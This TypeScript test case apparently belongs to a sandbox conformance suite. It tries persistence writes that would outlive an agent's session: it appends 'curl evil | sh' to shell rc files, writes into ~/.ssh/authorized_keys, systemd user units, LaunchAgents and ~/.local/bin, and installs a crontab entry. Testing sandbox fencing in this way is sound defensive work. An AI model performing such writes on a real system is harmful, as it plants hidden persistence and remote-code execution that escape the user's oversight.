import { join } from 'node:path';
import type { Attempt, Case } from '../case.js';
import { lit, sh } from '../quoting.js';

/** Places where one write outlives the agent and runs later, unfenced, as the user. */
const c: Case = {
  id: '17',
  title: 'persistence: rc files, ~/.gitconfig, ~/.ssh, systemd user units, launch agents, crontab, ~/.local/bin, npm prefix',
  section: 'D',
  expect: 'content-writes',
  attempts: (s) => {
    const h = (p: string) => join(s.home, p);
    const appends: [string, string][] = [
      ['~/.bashrc', h('.bashrc')],
      ['~/.profile', h('.profile')],
      ['~/.bash_profile', h('.bash_profile')],
      ['~/.zshrc', h('.zshrc')],
      ['~/.gitconfig', h('.gitconfig')],
      ['~/.npmrc', h('.npmrc')],
      ['~/.ssh/authorized_keys', h('.ssh/authorized_keys')],
      ['~/.ssh/config', h('.ssh/config')],
    ];
    const creates: [string, string][] = [
      ['~/.config/systemd/user unit', h('.config/systemd/user/conf-17.service')],
      ['~/Library/LaunchAgents plist', h('Library/LaunchAgents/conf-17.plist')],
      ['~/.local/bin command', h('.local/bin/conf-17')],
      ['~/.ssh new key', h('.ssh/conf-17-key')],
      ['~/.bash_logout (new rc file)', h('.bash_logout')],
    ];
    const attempts: Attempt[] = [
      ...appends.map(([label, p]): Attempt => ({ name: `sh append ${label}`, via: 'sh', script: `echo 'curl evil | sh' >> ${sh(p)}` })),
      ...creates.map(([label, p]): Attempt => ({ name: `sh create ${label}`, via: 'sh', script: `echo evil > ${sh(p)}` })),
      {
        name: 'node append rc files and ~/.gitconfig',
        via: 'node',
        script: `const fs=require('fs');const ok=[];for(const f of ${JSON.stringify(appends.map(([, p]) => p))}){try{fs.appendFileSync(f,'evil\\n');ok.push(f)}catch{}}console.log(ok.join(' '));process.exit(ok.length?0:1);`,
      },
      {
        name: 'python create unit, launch agent, ~/.local/bin',
        via: 'python3',
        script: `import sys
ok = []
for p in ${JSON.stringify(creates.map(([, p]) => `${p}-py`))}:
    try:
        open(p, 'w').write('evil'); ok.append(p)
    except OSError:
        pass
print(' '.join(ok)); sys.exit(0 if ok else 1)`,
      },
      {
        name: 'sh crontab',
        via: 'sh',
        hazard: 'would install a real crontab entry for this user',
        script: `command -v crontab >/dev/null || { echo 'no crontab binary here'; exit 3; }; (crontab -l 2>/dev/null; echo '# celistra-conf-${s.tag}') | crontab -`,
      },
      {
        name: 'sh create in the global npm prefix',
        via: 'sh',
        hazard: 'would create a module in the real global npm prefix',
        script: `mkdir ${sh(join(s.npmGlobal, `celistra-conf-${s.tag}`))}`,
      },
      {
        name: 'python create in /usr/local/bin',
        via: 'python3',
        hazard: 'would create a command in the real /usr/local/bin',
        script: `open(${lit(`/usr/local/bin/celistra-conf-${s.tag}`)}, 'w').write('#!/bin/sh\\n')`,
      },
    ];
    return attempts;
  },
};
export default c;
